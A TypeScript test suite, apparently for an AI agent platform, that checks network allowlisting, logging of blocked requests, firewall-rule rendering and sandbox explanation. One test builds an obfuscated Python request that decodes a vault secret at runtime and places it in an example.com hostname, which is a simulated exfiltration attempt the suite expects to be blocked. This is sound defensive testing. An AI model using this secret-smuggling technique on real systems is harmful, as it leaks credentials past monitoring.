// The way out of a whole installation as its owner meets it: nothing is reached before they say so, what was stopped and
// why can be read, and a secret in a name goes nowhere even where the name is listed.
import assert from "node:assert/strict";
import { after, before, suite, test } from "node:test";
import { createInstallation } from "../../faux/installation.ts";
import type { Installation } from "../../faux/installation.ts";
import { whyNoSandbox } from "../../faux/outside/host.ts";
import { invoke } from "../../faux/outside/invoke.ts";

type Line = Readonly<Record<string, unknown>>;

suite("the way out of an installation", { concurrency: false, skip: whyNoSandbox() ?? false }, () => {
  let lorica: Installation;
  const ok = async (words: readonly string[], input?: string): Promise<string> => {
    const { code, stdout, stderr } = await lorica.run(words, input === undefined ? {} : { input });
    assert.equal(code, 0, `${words.join(" ")}: ${stderr}`);
    return stdout;
  };
  /** What Python says about a host: it repeats the reason in the proxy's status line. */
  const reach = async (host: string): Promise<string> => {
    const code = `import urllib.request as u\ntry: u.urlopen("https://${host}/", timeout=10)\nexcept Exception as e: print(e)`;
    return (await invoke(lorica, "exec", { command: `python3 -c '${code}'` })).text;
  };
  before(async () => {
    lorica = await createInstallation();
    lorica.writeConfig({ gateway: { tools: { allow: ["exec"] } } });
    await lorica.start();
    await ok(["status"]);
  });
  after(() => lorica.remove());

  test("EGR-001 no command has any network before the owner lists a host, and only that host is a question then", async () => {
    assert.match(await ok(["egress", "status"]), /main \(listed\)\n {2}no network: its commands reach nothing/);
    assert.match(await reach("api.example.com"), /resolution|not known|getaddrinfo/);
    assert.match(await ok(["egress", "allow", "*.example.com:443"]), /egress\.allow changed, in force now/);
    assert.match(await ok(["egress", "test", "api.example.com"]), /^allowed: api\.example\.com:443 for main by egress/);
    assert.match(await reach("evil.example.org"), /403 evil\.example\.org is not on the list of agent main/);
    // Listed: from here on it is the name server's word and the address that count.
    assert.doesNotMatch(await reach("nobody-has-this.example.com"), /not on the list|must not leave/);
  });

  test("EGR-006 what was stopped is shown with its agent, session and reason, and is evidence", async () => {
    await reach("blocked.example.org");
    const shown = JSON.parse(await ok(["egress", "log", "--blocked", "--json"])) as {
      readonly entries: readonly Line[];
    };
    const { at, reason, ...entry } = shown.entries.at(-1) ?? assert.fail("nothing is shown");
    assert.equal(typeof at, "number");
    assert.match(String(reason), /^blocked\.example\.org is not on the list/);
    assert.deepEqual(entry, {
      agentId: "main",
      sessionKey: "agent:main:main",
      host: "blocked.example.org",
      port: 443,
      method: null,
      verdict: "deny",
      rule: "default",
      upBytes: 0,
      downBytes: 0,
    });
    const records = JSON.parse(await ok(["audit", "query", "--kind", "egress", "--json"])) as readonly Line[];
    const found = records.find(({ resource }) => resource === "blocked.example.org:443");
    const { agentId, sessionKey, verdict, rule } = found ?? assert.fail("no evidence of it");
    assert.deepEqual(
      { agentId, sessionKey, verdict, rule },
      { agentId: "main", sessionKey: "agent:main:main", verdict: "deny", rule: "default" },
    );
  });

  test("a value of the vault as a host's name is looked up nowhere, and written down nowhere", async () => {
    const value = "zk3v9q7m2x8w5t1rjh6n";
    await ok(["vault", "set", "service:forge"], `${value}\n`);
    // Made inside from what no look at the command recognizes.
    const numbers = [...value].map((char) => (char.codePointAt(0) ?? 0) + 1).join(",");
    const name = `"".join(chr(n - 1) for n in [${numbers}])`;
    const code = `import urllib.request as u\ntry: u.urlopen("https://" + ${name} + ".example.com/", timeout=10)\nexcept Exception as e: print(e)`;
    const { text } = await invoke(lorica, "exec", { command: `python3 -c '${code}'` });
    assert.match(text, /403 the name holds what must not leave/);
    const log = await ok(["egress", "log", "--blocked", "--json"]);
    assert.match(log, /\(hidden\)/);
    const evidence = await ok(["audit", "query", "--kind", "egress,dlp", "--json"]);
    for (const written of [log, evidence]) assert.equal(written.includes(value), false);
    assert.match(evidence, /vault\.value/);
  });

  test("a host that is denied stays denied, and what is printed for a packet filter knows the ports in use", async () => {
    await ok(["egress", "allow", "git.example.net:8443", "--agent", "main", "--for", "1h"]);
    assert.match(await ok(["egress", "status"]), /allow git\.example\.net:8443 for main until \d{4}-/);
    assert.match(await ok(["egress", "render", "nftables"]), /tcp dport \{ 443, 8443 \} accept\n {4}counter reject/);
    assert.match(await ok(["egress", "render", "ufw"]), /ufw allow out 8443/);
    await ok(["egress", "deny", "api.example.com"]);
    assert.match(await ok(["egress", "test", "api.example.com"]), /^denied: .*the owner's rule egress\.deny\[0\]/);
    assert.match(await reach("api.example.com"), /403 the owner's rule/);
    const wrong = await lorica.run(["egress", "allow", "10.0.0.1"]);
    assert.deepEqual([wrong.code === 0, /an address is not a host name/.test(wrong.stderr)], [false, true]);
  });

  test("SBX-005 sandbox explain shows what a cell of each agent is and what changes it, and recreate ends the ones that are open", async () => {
    const profileOf = (text: string): string => /^profile +([0-9a-f]{64})$/m.exec(text)?.[1] ?? assert.fail(text);
    const before = await ok(["sandbox", "explain"]);
    for (const line of [
      /^agent +main$/m,
      /^workspace +\/.*workspace, read and written$/m,
      /^shared by +nobody: each session has its own$/m,
      /^mode +all: all walls are up$/m,
      /^read-only +AGENTS\.md SOUL\.md/m,
      /^bounds +512 processes, 2\.0 GiB of memory$/m,
    ])
      assert.match(before, line);
    // The reason why something is not bounded is told to its end.
    assert.doesNotMatch(before, /…/);
    await invoke(lorica, "exec", { command: "true" });
    assert.match(await ok(["sandbox", "list"]), new RegExp(profileOf(before).slice(0, 12)));
    await ok(["config", "set", "agents.defaults.sandbox.docker.pidsLimit", "100"]);
    const after = await ok(["sandbox", "explain"]);
    assert.match(after, /^bounds +100 processes/m);
    assert.notEqual(profileOf(after), profileOf(before));
    await invoke(lorica, "exec", { command: "true" });
    assert.match(await ok(["sandbox", "recreate"]), /^1 ended/);
    assert.match(await ok(["sandbox", "list"]), /no cell is open/);
  });
});
